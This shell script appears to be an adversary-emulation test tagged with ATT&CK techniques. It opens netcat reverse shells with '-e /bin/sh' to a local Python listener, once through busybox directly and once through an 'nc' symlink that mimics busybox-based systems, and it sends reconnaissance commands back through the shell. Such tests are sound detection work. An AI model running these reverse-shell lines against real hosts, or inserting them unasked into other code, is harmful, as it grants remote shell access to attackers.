# techniques: T1059.004 T1095
# Netcat reverse shell with -e: `nc HOST PORT -e /bin/sh`, once as `busybox nc` and once through
# an `nc` symlink to busybox (how nc looks on busybox-based systems; no netcat package here).
# The listener is Python on 127.0.0.1:4446.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH

listen() { # PORT COMMANDS [CONNECTIONS]: accept, send the commands, drain until EOF
  rm -f "ready.$1"
  /usr/bin/python3 -I -S -c '
import socket, sys
p, cmd, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", p)); l.listen(1); l.settimeout(8)
open("ready.%d" % p, "w").close()
for _ in range(n):
    c, _ = l.accept(); c.settimeout(4)
    c.sendall(cmd.encode() + b"\n")
    try:
        while c.recv(65536): pass
    except OSError: pass
    c.close()
' "$1" "$2" "${3:-1}" &
  lpid=$!
  i=0; while [ ! -e "ready.$1" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
}

command -v busybox >/dev/null || exit 0
listen 4446 'id; uname -a; exit' 2
busybox nc 127.0.0.1 4446 -e /bin/sh 2>/dev/null
mkdir -p bin && ln -sf "$(command -v busybox)" bin/nc
bin/nc 127.0.0.1 4446 -e /bin/sh 2>/dev/null
wait
rm -rf bin ready.*
exit 0
